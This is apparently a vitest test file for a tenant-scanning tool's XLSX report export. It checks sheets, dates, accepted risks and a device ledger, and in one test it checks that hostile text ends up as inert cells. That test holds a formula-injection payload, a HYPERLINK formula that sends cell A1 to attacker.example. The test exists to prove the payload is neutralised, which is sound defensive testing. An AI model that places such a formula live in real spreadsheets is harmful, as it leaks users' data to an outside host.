import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadSnapshot } from '../../../src/advisories/snapshot.ts';
import type { RunRecord } from '../../../src/model/run-record.ts';
import type { RenderOptions } from '../../../src/report/renderer.ts';
import { workbook } from '../../../src/report/workbook.ts';
import { openHistory } from '../../../src/store/store.ts';
import { dayOf, device, nothing, runOn, tenantId } from '../../store/support/runs.ts';
import { emptyRun, hostileRun } from '../../support/hostile-run.ts';
import { rendered } from '../../support/rendered.ts';
import { sampleRun } from '../../support/sample-run.ts';
import { type ReadCell, type ReadSheet, readXlsx } from '../../support/xlsx.ts';

async function sheetsOf(run: RunRecord, options: RenderOptions = {}): Promise<ReadSheet[]> {
  const [document] = await rendered(run, ['xlsx'], options);
  return readXlsx(document?.content as Uint8Array);
}

type Row = Record<string, ReadCell>;
function rowsOf(sheets: readonly ReadSheet[], name: string): Row[] {
  const [header = [], ...rows] = sheets.find((sheet) => sheet.name === name)?.rows ?? [];
  return rows.map((row) => Object.fromEntries(header.map((title, at) => [String(title), row[at] ?? null])));
}

describe('report.xlsx', () => {
  it('has its sheets, each with a frozen head and widths', async () => {
    const sheets = await sheetsOf(sampleRun());
    expect(sheets.map(({ name }) => name)).toEqual(['findings', 'subjects', 'controls', 'measures', 'retirements', 'ledger', 'about']);
    for (const { rows, frozenRows, widths } of sheets) {
      expect(frozenRows).toBe(1);
      expect(widths).toHaveLength(rows[0]?.length ?? 0);
    }
  });

  it('has every check, every subject, every control, measure and retirement', async () => {
    const run = sampleRun();
    const sheets = await sheetsOf(run);
    expect(rowsOf(sheets, 'findings').map(({ Check }) => Check)).toHaveLength(run.checks.length);
    const subjects = run.results.flatMap(({ check, findings = [] }) => findings.map(({ subject }) => `${check} ${subject.id}`));
    expect(
      rowsOf(sheets, 'subjects')
        .map(({ Check, Id }) => `${Check} ${Id}`)
        .sort(),
    ).toEqual(subjects.sort());
    expect(rowsOf(sheets, 'controls')).toHaveLength(run.controls.length);
    expect(rowsOf(sheets, 'measures')).toHaveLength(run.measures.length);
    expect(rowsOf(sheets, 'retirements')).toHaveLength(run.retirements.length);
  });

  it('writes numbers as numbers, days as days, and nothing for what is not known', async () => {
    const sheets = await sheetsOf(sampleRun());
    const [coverage, later] = rowsOf(sheets, 'measures');
    expect(coverage).toMatchObject({ Value: 99.96, 'Of these': 2499, Counted: 2500, 'Data of': new Date('2026-08-19T00:00:00Z') });
    expect(later).toMatchObject({ Value: null, Because: 'The update is nine days old.' });
    const [legacy] = rowsOf(sheets, 'findings');
    expect(legacy).toMatchObject({ Severity: 'Critical', Verdict: 'To fix', Examined: 340, Since: new Date('2026-06-01T00:00:00Z'), Owner: 'IT operations' });
    const dates = Object.fromEntries(rowsOf(sheets, 'retirements').map(({ Id, Date: date }) => [Id, date]));
    expect(dates).toEqual({
      ews: new Date('2026-10-01T00:00:00Z'),
      'aad-graph': new Date('2025-06-30T00:00:00Z'),
      acs: '2026-12',
      addins: null,
      connectors: '2027',
    });
    const about = Object.fromEntries(rowsOf(sheets, 'about').map(({ About, Value }) => [About, Value]));
    expect(about).toMatchObject({ 'Scan started (UTC)': new Date('2026-08-20T12:00:00Z'), 'Score, of 100': 71.97 });
  });

  it('says who accepted what until when, and what could not be judged because of what', async () => {
    const rows = Object.fromEntries(rowsOf(await sheetsOf(sampleRun()), 'findings').map((row) => [row.Check, row]));
    expect(rows['apps-with-takeover-permissions']).toMatchObject({
      Accepted: 'In part',
      'Accepted by': 'Maria Keller',
      'Accepted until': new Date('2026-10-31T00:00:00Z'),
    });
    expect(rows['update-rings-not-tiered']).toMatchObject({ Accepted: 'Expired' });
    expect(rows['windows-devices-behind']?.Because).toContain('was refused (403)');
    expect(rows['outlook-addins-unreviewed']?.Because).toBe('1. Open the list of integrated apps. 2. Ask the owner of each add-in whether it is still needed.');
  });

  it('runs nothing, whatever the texts, and cuts what no cell can hold', async () => {
    const run = hostileRun();
    const long = { id: 'long', label: 'x'.repeat(40_000), value: null, unit: 'count' as const };
    const sheets = await sheetsOf({ ...run, measures: [...run.measures, long] });
    const cells = sheets.flatMap(({ rows }) => rows.flat()).filter((cell) => typeof cell === 'string');
    expect(sheets.map(({ formulas }) => formulas)).toEqual(sheets.map(() => 0));
    for (const cell of cells) {
      expect(cell.length).toBeLessThanOrEqual(32_767);
      expect(cell).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\ufffe\uffff]/);
    }
    expect(cells.find((cell) => cell.endsWith('x…'))).toHaveLength(32_767);
    expect(cells).toContain('=HYPERLINK("https://attacker.example/?"&A1,"Click")');
    expect(cells).toContain('_x000D_ _x0041_');
  });

  it('says why a sheet is empty', async () => {
    const sheets = await sheetsOf(emptyRun());
    const firsts = sheets.slice(1, 6).map(({ rows }) => rows[1]?.[0]);
    expect(firsts).toEqual([
      'Nothing failed, so nobody and nothing is named here.',
      'No check of this run belongs to a control of a framework.',
      'This run took no measures.',
      'This run judged no retirements.',
      'No history was given to this report, so there is no ledger.',
    ]);
    expect((await sheetsOf(emptyRun(), { ledger: () => 'It is locked.' }))[5]?.rows[1]?.[0]).toBe('It is locked.');
    expect((await sheetsOf(emptyRun(), { ledger: () => [] }))[5]?.rows[1]?.[0]).toMatch(/^The ledger held nothing yet/);
  });

  it('holds the ledger as it stood at the time of the run', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'tidytenant-'));
    const history = openHistory(join(folder, 'history.sqlite'));
    try {
      const see = (day: number, osVersion: string) =>
        history.record(runOn(day, {}), { ...nothing, devices: [device('pc1', { name: '=PC', osVersion, lastSync: dayOf(day) })] }, loadSnapshot());
      see(129, '10.0.26100.8246');
      see(134, '10.0.26100.8390');
      const ledger = () => history.ledger(tenantId);
      const rows = async (day: number) =>
        rowsOf(await sheetsOf(sampleRun({ startedAt: dayOf(day) }), { ledger }), 'ledger').map(({ What, Device, Version }) => [What, Device, Version]);
      expect(await rows(130)).toEqual([['first seen', '=PC', '10.0.26100.8246']]);
      expect(await rows(135)).toEqual([
        ['first seen', '=PC', '10.0.26100.8246'],
        ['updated', '=PC', '10.0.26100.8390'],
      ]);
    } finally {
      history.close();
      await rm(folder, { recursive: true });
    }
  });
});

describe('workbook', () => {
  it('leaves out the rows that no sheet holds, and says how many', async () => {
    const table = { name: 'rows', columns: [{ id: 'n', title: 'N', width: 5 }], rows: Array.from({ length: 10 }, (_, at) => [at]) };
    const cells = async (limit: number) => readXlsx(await workbook([table], limit))[0]?.rows.map(([cell]) => cell);
    expect(await cells(11)).toEqual(['N', 0, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
    expect(await cells(5)).toEqual(['N', 0, 1, 2, '7 more rows do not fit into a sheet.']);
  });
});
